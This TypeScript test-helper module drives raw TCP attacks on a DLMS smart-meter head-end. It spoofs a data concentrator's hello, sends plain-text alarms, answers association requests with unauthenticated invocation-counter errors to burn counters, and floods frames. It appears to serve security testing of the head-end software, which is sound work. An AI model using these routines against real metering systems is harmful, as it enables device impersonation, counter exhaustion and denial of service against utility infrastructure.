/** Raw TCP lines to a DLMS port, for tests and workloads that attack a head-end: no keys, nothing but bytes. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { encode } from '@hes/dlms/codec/codec.ts';
import { doubleLongUnsigned, octetString, structure, unsigned } from '@hes/dlms/cosem/data.ts';
import { encodeNotification } from '@hes/dlms/association/notification.ts';
import { encodeGateway } from '@hes/dlms/framing/gateway.ts';
import { encodeWrapper, WrapperDeframer } from '@hes/dlms/framing/wrapper.ts';

export interface Target {
  host: string;
  port: number;
  /** The address that the line comes from; any of this machine when not said. */
  from?: string;
}

const UNREQUESTED = { source: 1, destination: 1 };
const AARQ = 0x60;
const HELLO = structure({ name: octetString, systemTitle: octetString, kind: unsigned });
const NO_TITLE = new Uint8Array(8);
const MAX_UNSENT = 256 * 1024;

/** The hello of a DCU with this serial number. */
export function hello(sn: string, systemTitle: Uint8Array = NO_TITLE): Uint8Array {
  const body = encode(HELLO, { name: Buffer.from(sn, 'latin1'), systemTitle, kind: 0 });
  return encodeWrapper(UNREQUESTED, encodeNotification({ longInvokeId: 1, body }));
}

/** An alarm in the clear: of a meter behind the gateway, or of the DCU itself. */
export function plainAlarm(longInvokeId: number, meterSn?: string): Uint8Array {
  const apdu = encodeNotification({ longInvokeId, confirmed: true, body: encode(doubleLongUnsigned, 1) });
  return encodeWrapper(
    UNREQUESTED,
    meterSn === undefined ? apdu : encodeGateway({ networkId: 0, address: Buffer.from(meterSn, 'latin1') }, apdu),
  );
}

/** A line to the DLMS port. What the head-end sends is discarded unless a listener is added. */
export async function openLine({ host, port, from }: Target): Promise<Socket> {
  const socket = connect({ host, port, noDelay: true, ...(from === undefined ? {} : { localAddress: from }) });
  socket.on('error', () => undefined);
  socket.resume();
  await once(socket, 'connect');
  return socket;
}

/** Says hello in the name of a DCU; resolves with the open line. */
export async function impersonate(target: Target, sn: string, systemTitle?: Uint8Array): Promise<Socket> {
  const line = await openLine(target);
  line.write(hello(sn, systemTitle));
  return line;
}

/** Answers every association request with a counter error that asks the head-end to continue `ahead` above the counter of the request. */
export function burnCounters(line: Socket, ahead: number): { answered(): number; counters: readonly number[] } {
  const deframer = new WrapperDeframer();
  const counters: number[] = [];
  line.on('data', (chunk: Buffer) => {
    for (const { source, destination, apdu } of deframer.push(chunk)) {
      const counter = counterOfRequest(apdu);
      if (counter === undefined) continue;
      counters.push(counter);
      line.write(encodeWrapper({ source: destination, destination: source }, counterError(counter + ahead)));
    }
  });
  return { answered: () => counters.length, counters };
}

/** An EXCEPTION-RESPONSE with the service error `invocation-counter-error`, which nothing authenticates. */
function counterError(counter: number): Uint8Array {
  const octets = Buffer.of(0xd8, 0x01, 0x06, 0, 0, 0, 0);
  octets.writeUInt32BE(counter, 3);
  return octets;
}

/** The invocation counter in the ciphered InitiateRequest (tag 21) of an AARQ. */
function counterOfRequest(apdu: Uint8Array): number | undefined {
  if (apdu[0] !== AARQ) return undefined;
  const octets = Buffer.from(apdu);
  const at = octets.findIndex((octet, index) => octet === 0x21 && (octets[index + 2] ?? 0) >> 4 === 3);
  return at < 0 ? undefined : octets.readUInt32BE(at + 3);
}

/** Writes a frame many times, as fast as the head-end reads; resolves with the number written when all are, or the line has ended. */
export async function flood(line: Socket, frame: Uint8Array, count: number): Promise<number> {
  let written = 0;
  const batch = Buffer.concat(Array.from({ length: 100 }, () => frame));
  while (written < count && !line.destroyed) {
    const now = Math.min(100, count - written);
    line.write(now === 100 ? batch : batch.subarray(0, now * frame.length));
    written += now;
    if (line.writableLength > MAX_UNSENT) await Promise.race([once(line, 'drain'), once(line, 'close')]).catch(() => undefined);
  }
  return written;
}
